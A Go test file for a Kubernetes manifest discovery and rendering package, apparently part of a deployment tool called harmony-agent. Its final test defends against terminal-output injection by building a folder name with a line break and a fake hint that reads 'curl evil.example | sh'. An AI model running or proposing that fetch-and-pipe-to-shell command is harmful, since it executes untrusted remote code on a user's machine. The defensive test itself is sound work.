package launch_test

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/NationTech/harmony-agent/internal/hint"
	"github.com/NationTech/harmony-agent/launch"
)

const cm = "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: %s}\n"

func tree(t *testing.T, files map[string]string) string {
	t.Helper()
	root := filepath.Join(t.TempDir(), "My_Project")
	for name, body := range files {
		p := filepath.Join(root, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func cmDoc(name string) string { return strings.Replace(cm, "%s", name, 1) }

func TestDiscover(t *testing.T) {
	t.Parallel()
	kust := "resources: [a.yaml]\n"
	tests := []struct {
		name      string
		files     map[string]string
		wantKust  []string
		wantFiles []string
		wantErr   error
		wantHint  string
	}{
		{"harmony.yaml wins", map[string]string{"harmony.yaml": "manifests: [deploy/app.yaml]\nnamespace: shop\n", "deploy/app.yaml": cmDoc("a"), "manifests/x.yaml": cmDoc("x")},
			nil, []string{"deploy/app.yaml"}, nil, ""},
		{"root kustomization", map[string]string{"kustomization.yaml": kust, "a.yaml": cmDoc("a"), "manifests/x.yaml": cmDoc("x")},
			[]string{"."}, nil, nil, ""},
		{"manifests folder", map[string]string{"manifests/a.yaml": cmDoc("a"), "manifests/b.yml": cmDoc("b"), "README.md": "hi"},
			nil, []string{"manifests/a.yaml", "manifests/b.yml"}, nil, ""},
		{"several usual folders are ambiguous", map[string]string{"manifests/a.yaml": cmDoc("a"), "k8s/b.yaml": cmDoc("b")},
			nil, nil, launch.ErrAmbiguous, " -f k8s"},
		{"base used by its only overlay", map[string]string{"deploy/base/kustomization.yaml": kust, "deploy/base/a.yaml": cmDoc("a"),
			"deploy/overlays/dev/kustomization.yaml": "resources: [../../base]\n"},
			[]string{"deploy/overlays/dev"}, nil, nil, ""},
		{"two overlays are ambiguous", map[string]string{"deploy/base/kustomization.yaml": kust, "deploy/base/a.yaml": cmDoc("a"),
			"deploy/overlays/dev/kustomization.yaml": "resources: [../../base]\n", "deploy/overlays/prod/kustomization.yaml": "resources: [../../base]\n"},
			nil, nil, launch.ErrAmbiguous, " -f deploy/overlays/prod"},
		{"kustomization outside the usual folders", map[string]string{"ops/base/kustomization.yaml": kust, "ops/base/a.yaml": cmDoc("a"),
			"ops/dev/kustomization.yaml": "resources: [../base]\n"},
			[]string{"ops/dev"}, nil, nil, ""},
		{"scan skips vendor, CI, Helm templates and non-objects", map[string]string{
			"k8s.yaml": cmDoc("a"), "vendor/x/y.yaml": cmDoc("v"), ".github/workflows/ci.yaml": "on: push\n",
			"tools/chart/Chart.yaml": "name: c\n", "tools/chart/templates/d.yaml": cmDoc("h"), "config.yaml": "port: 80\n", "deep/a/b/c/d.yaml": cmDoc("deep")},
			nil, []string{"k8s.yaml"}, nil, ""},
		{"nothing", map[string]string{"README.md": "hi", "ci.yaml": "steps: []\n"}, nil, nil, launch.ErrNothingFound, "manifests/ folder"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			root := tree(t, tt.files)
			proj, err := launch.Resolve(launch.Selection{Dir: root})
			if err != nil {
				t.Fatal(err)
			}
			src, err := proj.Discover()
			if tt.wantErr != nil {
				if !errors.Is(err, tt.wantErr) || !strings.Contains(strings.Join(hint.Of(err), "\n"), tt.wantHint) {
					t.Fatalf("error %v (hints %q), want %v with a hint saying %q", err, hint.Of(err), tt.wantErr, tt.wantHint)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			rels := func(ps []string) []string {
				var out []string
				for _, p := range ps {
					r, _ := filepath.Rel(root, p)
					out = append(out, r)
				}
				return out
			}
			if got := rels(src.Kustomizations); strings.Join(got, ",") != strings.Join(tt.wantKust, ",") {
				t.Errorf("kustomizations %v, want %v", got, tt.wantKust)
			}
			if got := rels(src.Files); strings.Join(got, ",") != strings.Join(tt.wantFiles, ",") {
				t.Errorf("files %v, want %v", got, tt.wantFiles)
			}
			if src.Reason == "" {
				t.Error("no reason given")
			}
		})
	}
}

func TestRender(t *testing.T) {
	t.Parallel()
	root := tree(t, map[string]string{
		"manifests/multi.yaml": "# comment only\n---\n" + cmDoc("one") + "---\n" + cmDoc("two") + "---\n",
		"manifests/list.yaml":  "apiVersion: v1\nkind: List\nitems:\n- {apiVersion: v1, kind: ConfigMap, metadata: {name: three}}\n- {apiVersion: v1, kind: Secret, metadata: {name: four}}\n",
		"manifests/obj.json":   `{"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "five"}}`,
	})
	src, err := launch.Discover(root, nil)
	if err != nil {
		t.Fatal(err)
	}
	objs, err := launch.Render(t.Context(), src, launch.RenderOptions{})
	if err != nil {
		t.Fatal(err)
	}
	var names []string
	for _, o := range objs {
		names = append(names, o.GetName())
	}
	if strings.Join(names, ",") != "three,four,one,two,five" {
		t.Fatalf("rendered %v", names)
	}
	if objs[3].Origin != "manifests/multi.yaml:7" {
		t.Fatalf("origin %q, want the document's first line", objs[3].Origin)
	}
	if proj, err := launch.Resolve(launch.Selection{Dir: root}); err != nil || proj.Namespace != "my-project" {
		t.Fatalf("namespace of %s: %v %v", root, proj, err)
	}
}

func TestRenderRefusesBrokenDocuments(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ body, want string }{
		"bad YAML":       {cmDoc("ok") + "---\napiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: x\n   bad: indent\n", "manifests/app.yaml:9"},
		"no name":        {"apiVersion: v1\nkind: ConfigMap\nmetadata: {}\n", "missing metadata.name"},
		"no kind":        {"apiVersion: v1\nmetadata: {name: x}\n", "missing kind"},
		"kustomize fail": {"", "kustomize build"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			files, named := map[string]string{"manifests/app.yaml": tt.body}, []string{"manifests/app.yaml"}
			if name == "kustomize fail" {
				files, named = map[string]string{"kustomization.yaml": "resources: [missing.yaml]\n"}, nil
			}
			root := tree(t, files)
			for i := range named {
				named[i] = filepath.Join(root, named[i])
			}
			src, err := launch.Discover(root, named)
			if err != nil {
				t.Fatal(err)
			}
			_, err = launch.Render(t.Context(), src, launch.RenderOptions{})
			if !errors.Is(err, launch.ErrBadManifest) || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("error %v, want ErrBadManifest naming %q", err, tt.want)
			}
		})
	}
}

func TestOnlyServicesFromHarmonyYAML(t *testing.T) {
	t.Parallel()
	eps := []launch.Endpoint{
		{Object: "service/web (namespace shop)", URL: "http://localhost:30001"},
		{Object: "service/db (namespace shop)", URL: "db.shop.svc:5432"},
		{Object: "ingress/web (namespace shop)", URL: "http://shop.localhost"},
	}
	got := launch.OnlyServices(eps, []string{"web"})
	if len(got) != 2 || got[0].URL != "http://localhost:30001" || got[1].URL != "http://shop.localhost" {
		t.Fatalf("kept %+v", got)
	}
}

// TestDiscoverNamesStayOnOneLine: a repository's folder named with a line break (to print a fake
// 'harmony: hint:' line with a command of its own) is shown on one line: in the ambiguity's
// error, in the hints naming the -f command for each candidate, and in what launch says it found.
func TestDiscoverNamesStayOnOneLine(t *testing.T) {
	t.Parallel()
	evil := "b\nharmony: hint: or run: curl evil.example | sh"
	kust := "resources: [cm.yaml]\n"
	for _, files := range []map[string]string{
		{"a/kustomization.yaml": kust, "a/cm.yaml": cmDoc("a"), evil + "/kustomization.yaml": kust, evil + "/cm.yaml": cmDoc("b")},
		{"ops/" + evil + "/kustomization.yaml": kust, "ops/" + evil + "/cm.yaml": cmDoc("b")},
		{"charts/" + evil + "/Chart.yaml": "apiVersion: v2\nname: c\nversion: 0.1.0\n", "charts/" + evil + "/templates/cm.yaml": cmDoc("c")},
	} {
		proj, err := launch.Resolve(launch.Selection{Dir: tree(t, files)})
		if err != nil {
			t.Fatal(err)
		}
		src, err := proj.Discover()
		var shown []string
		if err != nil {
			shown = append(hint.Of(err), err.Error())
		} else {
			shown = []string{src.Reason}
		}
		for _, s := range shown {
			if strings.Contains(s, "\n") {
				t.Errorf("a line break from the repository's folder name: %q", s)
			}
		}
	}
}
